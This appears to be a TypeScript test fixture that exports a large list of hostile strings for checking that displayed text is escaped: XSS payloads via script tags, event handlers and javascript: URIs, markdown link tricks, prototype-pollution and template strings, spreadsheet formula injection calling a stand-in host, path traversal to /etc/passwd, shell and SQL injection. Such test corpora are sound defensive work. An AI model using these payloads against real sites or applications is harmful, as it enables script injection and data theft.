/** What every payload tries to do, if it gets to run. */
const RUN = 'self.broken=1';
/** Where a payload tries to call, if it gets to load something. */
const ELSEWHERE = 'https://elsewhere.example/x';

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="${ELSEWHERE}"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}//`,
  `<!--<script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

const elements = [
  'img',
  'svg',
  'body',
  'input',
  'video',
  'audio',
  'details',
  'iframe',
  'object',
  'marquee',
  'form',
  'math',
];
const handlers = ['onerror', 'onload', 'onfocus', 'onclick', 'ontoggle', 'onanimationstart', 'onmouseover'];
const handled = elements.flatMap((element, i) =>
  [0, 1, 2].map((k) => `<${element} src=x open autofocus ${handlers[(i + k) % handlers.length]}=${RUN}>`),
);

const markup = [
  `<img src="${ELSEWHERE}">`,
  `<link rel="stylesheet" href="${ELSEWHERE}">`,
  `<link rel="prefetch" href="${ELSEWHERE}">`,
  `<style>@import "${ELSEWHERE}";</style>`,
  '<style>*{display:none}</style>',
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  `<base href="${ELSEWHERE}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">a link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a link</a>`,
  `<form action="${ELSEWHERE}"><button>send</button></form>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  '<template><img src=x></template>',
  '<table background="x"><tr><td>cell</td></tr></table>',
  '<details open><summary>fold</summary></details>',
  '<input type="image" src="x">',
  '<video poster="x"></video>',
  '<plaintext>',
  '<xmp>',
  '<textarea>',
  '<select><option>',
  '<frameset><frame src="x"></frameset>',
];

const endings = [
  '</td></tr></table>',
  '</caption>',
  '</pre>',
  '</code>',
  '</summary>',
  '</details>',
  '</title>',
  '</style>',
  '</textarea>',
  '</option></select>',
  '</figcaption>',
  '</dd></dl>',
  '</script>',
  '--></script>',
  '</main>',
  '</body></html>',
];
const ended = endings.map((ending) => `${ending}<img src=x onerror=${RUN}>`);

const attributes = [
  `" onfocus="${RUN}" autofocus="`,
  `' onfocus='${RUN}' autofocus='`,
  `" onmouseover=${RUN} x="`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  '" style="position:fixed;inset:0" x="',
  '" id="content',
  '" class="output',
  '`onload=x`',
  ` tabindex=1 onfocus=${RUN} `,
];

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  '//elsewhere.example/',
  'file:///etc/passwd#',
  'blob:x',
  '\u0001javascript:',
].flatMap((scheme) => [`[a link](${scheme}${RUN})`, `![a picture](${scheme}${RUN})`, `<${scheme}${RUN}>`]);

const markdown = [
  `[a link]: javascript:${RUN}\n\n[a link]`,
  `[x](<javascript:${RUN}>)`,
  `[x](javascript&colon;${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  '![x](x "title\\" onerror=\\"x")',
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `| a | <img src=x onerror=${RUN}> |\n|---|---|\n| 1 | 2 |`,
  `# <script>${RUN}</script>`,
  `<details markdown="1">\n\n<script>${RUN}</script>\n\n</details>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];

const code = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  '${self.broken=1}',
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `'; ${RUN}; '`,
  `"; ${RUN}; "`,
  `\`; ${RUN}; \``,
  `*/ ${RUN}; /*`,
  `\\"; ${RUN}; //`,
  `\u2028${RUN}`,
  `\u2029${RUN}`,
  `//# sourceMappingURL=${ELSEWHERE}`,
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  '{"__proto__":{"broken":1}}',
  'datum.constructor.constructor("self.broken=1")()',
  `"+alert(1)+"`,
  `expression(${RUN})`,
  `url(${ELSEWHERE})`,
  `calc(1px); background: url(${ELSEWHERE})`,
];

const tables = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example/x","x")',
  '@SUM(1)',
  '+1+1',
  '-1+1',
  '=cmd|x!A0',
  'a\tb',
  'a;b',
  'a,b',
  '"quoted"',
  "'single'",
  'NaN',
  'Infinity',
  '1e999',
  '0x10',
  '\ufeff',
  '\u202egnp.exe',
  '\u2066hidden\u2069',
  '\u200b',
  'a\u0300'.repeat(30),
  '\u0000nul',
  '\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u001b[2J',
  '\r\rover',
  '%00',
  '%3Cscript%3E',
  '&#x3c;img src=x onerror=self.broken=1&#x3e;',
  '&lt;b&gt;',
  '&amp;lt;',
  '\ud800',
  '\uffff',
  'x'.repeat(3000),
  '<'.repeat(300),
  '🧪'.repeat(50),
  '../../etc/passwd',
  '..\\..\\x',
  'CON',
  'C:\\x',
  '/etc/passwd',
  '$(touch x)',
  '`touch x`',
  '; touch x',
  '| touch x',
  "'; DROP TABLE x; --",
];

/** Texts that try to become markup, script, style, an address, a formula, a path or a command, wherever they are shown. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...scripts,
    ...handled,
    ...markup,
    ...ended,
    ...attributes,
    ...addresses,
    ...markdown,
    ...code,
    ...tables,
  ]),
];

/** As many harmless ones: what they make is the shape that the hostile ones must keep to. */
export const harmlessStrings: readonly string[] = hostileStrings.map((_, i) => `plain ${i}`);
